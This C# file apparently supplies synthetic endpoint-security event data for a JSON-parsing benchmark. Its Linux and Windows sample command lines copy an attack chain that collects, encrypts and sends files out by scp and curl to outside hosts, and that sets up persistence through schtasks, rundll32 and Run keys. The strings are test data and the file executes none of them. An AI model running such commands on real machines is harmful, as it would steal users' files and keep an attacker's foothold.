namespace Kiln.Benchmarks.Data;

/// <summary>
/// What a kind of machine puts into its events. The action's example comes from Linux; Windows is here because its paths are full of
/// backslashes, each of which JSON escapes, and a reader that is only fast without escapes should not look as if it were always fast.
/// </summary>
internal sealed record Platform(
    string Os, string AgentName, string AgentVersion, string MachineType, string User,
    string[] Images, string[] CommandLines, string[] Folders, string[] Extensions, string[] Publishers, string[] IntegrityLevels, string[] RegistryKeys,
    string? SubSystem, string? IsRedirectedCommandProcessor)
{
    /// <summary>A server on which a shell script collects files and sends them away, as in the example.</summary>
    public static Platform Linux { get; } = new(
        "linux", "localhost.localdomain", "21.10.1.6", "server", "swimlane-host",
        ["/usr/bin/scp", "/usr/bin/bash", "/usr/bin/curl", "/usr/bin/python3.9", "/usr/bin/tar", "/usr/bin/find", "/usr/sbin/crond", "/usr/bin/ssh", "/usr/bin/chmod", "/usr/bin/openssl", "/usr/bin/base64", "/usr/sbin/sshd"],
        [
            "scp -q -o StrictHostKeyChecking=no /home/swimlane-host/outbox/{0}.tar.gz upload@96.79.235.37:/srv/incoming/",
            "/bin/sh -c \"find /home/swimlane-host -newer /tmp/.stamp-{0} -type f | head -n 200\"",
            "curl -s -m 30 -H \"X-Session: {0}\" https://cdn-telemetry.example.net/v2/collect",
            "tar -czf /tmp/.cache/{0}.tar.gz --files-from=/tmp/.cache/list",
            "openssl enc -aes-256-cbc -pbkdf2 -in /tmp/.cache/{0}.tar.gz -out /tmp/.cache/{0}.bin -pass file:/tmp/.cache/key",
            "python3.9 /opt/agent/plugins/collect.py --session {0} --quiet",
        ],
        ["/home/swimlane-host/", "/tmp/.cache/", "/var/spool/cron/", "/home/swimlane-host/Documents/2021/", "/opt/agent/plugins/"],
        [".com", ".tar.gz", ".bin", ".sh", ".docx", ".py"],
        ["Red Hat, Inc.", "CentOS Project"], ["SYSTEM", "HIGH", "MEDIUM"],
        ["/etc/systemd/system/collect.service", "/etc/cron.d/collect"],
        null, null);

    /// <summary>A laptop on which a document has started a script.</summary>
    public static Platform Windows { get; } = new(
        "windows", "LAPTOP-7GQ2K1M4", "21.7.5.1080", "laptop", @"CORP\jane.doe",
        [
            @"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\System32\svchost.exe",
            @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\System32\wscript.exe", @"C:\Windows\System32\rundll32.exe",
            @"C:\Windows\System32\schtasks.exe", @"C:\Windows\explorer.exe", @"C:\Users\jane.doe\AppData\Local\Temp\setup.exe",
        ],
        [
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -File C:\\Users\\jane.doe\\AppData\\Local\\Temp\\{0}.ps1",
            @"rundll32.exe C:\Users\jane.doe\AppData\Roaming\{0}.dll,Start",
            "\"C:\\Windows\\System32\\cmd.exe\" /c copy /y C:\\Users\\jane.doe\\Documents\\{0}.docx C:\\ProgramData\\stage\\",
            @"schtasks.exe /create /tn Updater-{0} /sc minute /mo 5 /tr C:\ProgramData\stage\run.cmd",
        ],
        [@"C:\Users\jane.doe\Documents\", @"C:\Users\jane.doe\AppData\Local\Temp\", @"C:\ProgramData\stage\", @"C:\Windows\Temp\"],
        [".docx", ".tmp", ".ps1", ".dll", ".exe", ".lnk"],
        ["Microsoft Windows", "Microsoft Corporation"], ["SYSTEM", "HIGH", "MEDIUM", "LOW"],
        [@"MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", @"USER\S-1-5-21-3623811015-3361044348-30300820-1013\Software\Classes\CLSID"],
        "SYS_WIN32", "False");
}
